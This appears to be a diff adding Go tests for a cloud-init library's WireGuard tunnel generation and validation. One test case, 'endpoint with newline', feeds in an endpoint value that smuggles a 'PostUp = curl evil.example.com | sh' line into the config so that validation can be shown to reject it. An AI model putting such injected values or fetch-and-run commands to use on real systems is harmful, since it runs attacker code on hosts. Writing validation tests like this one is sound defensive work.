@@ -0,0 +1,154 @@
+package cloudinit_test
+
+import (
+	"bytes"
+	"encoding/base64"
+	"io"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	cloudinit "go.pilab.hu/cloud/cloud-init"
+	"golang.org/x/crypto/curve25519"
+	"gopkg.in/yaml.v3"
+)
+
+//nolint:gochecknoglobals // Test fixture.
+var hubPublicKey = base64.StdEncoding.EncodeToString(bytes.Repeat([]byte{1}, 32))
+
+func wireGuardTunnel() cloudinit.WireGuardTunnel {
+	return cloudinit.WireGuardTunnel{
+		Name:      "wg0",
+		Addresses: []string{"10.8.0.2/32"},
+		Peers: []cloudinit.WireGuardPeer{{
+			PublicKey:           hubPublicKey,
+			Endpoint:            "hub.example.com:51820",
+			AllowedIPs:          []string{"10.8.0.0/24"},
+			PersistentKeepalive: 25,
+		}},
+	}
+}
+
+func TestAddWireGuardTunnel(t *testing.T) {
+	c := cloudinit.NewConfig()
+	c.SetRandom(bytes.NewReader(bytes.Repeat([]byte{0x42}, 32)))
+	c.SetCloudConfig(&cloudinit.CloudConfig{
+		WireGuard: &cloudinit.WireGuardConfig{ReadinessProbe: []string{"ping -c 1 10.8.0.1"}},
+	})
+
+	public, err := c.AddWireGuardTunnel(wireGuardTunnel())
+	require.NoError(t, err)
+
+	var cc cloudinit.CloudConfig
+	require.NoError(t, yaml.Unmarshal(c.GenerateConfigContent(), &cc))
+	require.NotNil(t, cc.WireGuard)
+	require.NoError(t, cc.WireGuard.Validate())
+	assert.Equal(t, []string{"ping -c 1 10.8.0.1"}, cc.WireGuard.ReadinessProbe)
+	require.Len(t, cc.WireGuard.Interfaces, 1)
+
+	iface := cc.WireGuard.Interfaces[0]
+	assert.Equal(t, "wg0", iface.Name)
+	assert.Equal(t, "/etc/wireguard/wg0.conf", iface.ConfigPath)
+
+	private, _, ok := strings.Cut(strings.TrimPrefix(iface.Content, "[Interface]\nPrivateKey = "), "\n")
+	require.True(t, ok)
+	assert.Equal(t, "[Interface]\nPrivateKey = "+private+`
+Address = 10.8.0.2/32
+
+[Peer]
+PublicKey = `+hubPublicKey+`
+Endpoint = hub.example.com:51820
+AllowedIPs = 10.8.0.0/24
+PersistentKeepalive = 25
+`, iface.Content)
+
+	key, err := base64.StdEncoding.DecodeString(private)
+	require.NoError(t, err)
+
+	derived, err := curve25519.X25519(key, curve25519.Basepoint)
+	require.NoError(t, err)
+	assert.Equal(t, public, base64.StdEncoding.EncodeToString(derived))
+
+	_, err = c.AddWireGuardTunnel(wireGuardTunnel())
+	require.ErrorIs(t, err, cloudinit.ErrInvalidWireGuard)
+}
+
+func TestWireGuardTunnelEndpoints(t *testing.T) {
+	for _, endpoint := range []string{"hub.example.com:51820", "192.0.2.1:51820", "[2001:db8::1]:51820", "hub:51820"} {
+		tun := wireGuardTunnel()
+		tun.Peers[0].Endpoint = endpoint
+		require.NoError(t, tun.Validate(), endpoint)
+	}
+}
+
+func TestAddWireGuardTunnelDuplicateCloudConfig(t *testing.T) {
+	c := cloudinit.NewConfig()
+	c.SetCloudConfig(&cloudinit.CloudConfig{
+		WireGuard: &cloudinit.WireGuardConfig{Interfaces: []cloudinit.WireGuardInterface{
+			{Name: "wg0", ConfigPath: "/etc/wireguard/wg0.conf", Content: "[Interface]\n"},
+		}},
+	})
+
+	_, err := c.AddWireGuardTunnel(wireGuardTunnel())
+	require.ErrorIs(t, err, cloudinit.ErrInvalidWireGuard)
+
+	// A cloud-config set after the tunnel is checked on generation.
+	c = cloudinit.NewConfig()
+	_, err = c.AddWireGuardTunnel(wireGuardTunnel())
+	require.NoError(t, err)
+
+	c.SetCloudConfig(&cloudinit.CloudConfig{
+		WireGuard: &cloudinit.WireGuardConfig{Interfaces: []cloudinit.WireGuardInterface{
+			{Name: "wg0", ConfigPath: "/etc/wireguard/wg0.conf", Content: "[Interface]\n"},
+		}},
+	})
+	assert.Nil(t, c.GenerateConfigContent())
+	require.ErrorIs(t, c.WriteISO(io.Discard), cloudinit.ErrInvalidWireGuard)
+}
+
+func TestWireGuardTunnelValidate(t *testing.T) {
+	testCases := []struct {
+		name   string
+		modify func(tun *cloudinit.WireGuardTunnel)
+	}{
+		{name: "invalid name", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Name = "wireguard-interface0" }},
+		{name: "invalid address", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Addresses = []string{"10.8.0.2"} }},
+		{name: "invalid port", modify: func(tun *cloudinit.WireGuardTunnel) { tun.ListenPort = 70000 }},
+		{name: "no peers", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers = nil }},
+		{name: "invalid public key", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].PublicKey = "hub" }},
+		{name: "invalid preshared key", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].PresharedKey = "c2hvcnQ=" }},
+		{name: "endpoint without port", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].Endpoint = "hub.example.com" }},
+		{name: "endpoint with newline", modify: func(tun *cloudinit.WireGuardTunnel) {
+			tun.Peers[0].Endpoint = "hub\nPostUp = curl evil.example.com | sh\n#:51820"
+		}},
+		{name: "endpoint with space", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].Endpoint = "hub example.com:51820" }},
+		{name: "endpoint with invalid port", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].Endpoint = "hub.example.com:wg" }},
+		{name: "no allowed IPs", modify: func(tun *cloudinit.WireGuardTunnel) { tun.Peers[0].AllowedIPs = nil }},
+	}
+
+	for _, tc := range testCases {
+		t.Run(tc.name, func(t *testing.T) {
+			tun := wireGuardTunnel()
+			tc.modify(&tun)
+			require.ErrorIs(t, tun.Validate(), cloudinit.ErrInvalidWireGuard)
+
+			_, err := cloudinit.NewConfig().AddWireGuardTunnel(tun)
+			require.ErrorIs(t, err, cloudinit.ErrInvalidWireGuard)
+		})
+	}
+}
+
+func TestWireGuardConfigValidate(t *testing.T) {
+	iface := cloudinit.WireGuardInterface{Name: "wg0", ConfigPath: "/etc/wireguard/wg0.conf", Content: "[Interface]\n"}
+
+	require.NoError(t, (&cloudinit.WireGuardConfig{Interfaces: []cloudinit.WireGuardInterface{iface}}).Validate())
+	require.ErrorIs(t, (&cloudinit.WireGuardConfig{}).Validate(), cloudinit.ErrInvalidWireGuard)
+	require.ErrorIs(t, (&cloudinit.WireGuardConfig{Interfaces: []cloudinit.WireGuardInterface{iface, iface}}).Validate(),
+		cloudinit.ErrInvalidWireGuard)
+
+	relative := iface
+	relative.ConfigPath = "wg0.conf"
+	require.ErrorIs(t, (&cloudinit.WireGuardConfig{Interfaces: []cloudinit.WireGuardInterface{relative}}).Validate(),
+		cloudinit.ErrInvalidWireGuard)
+}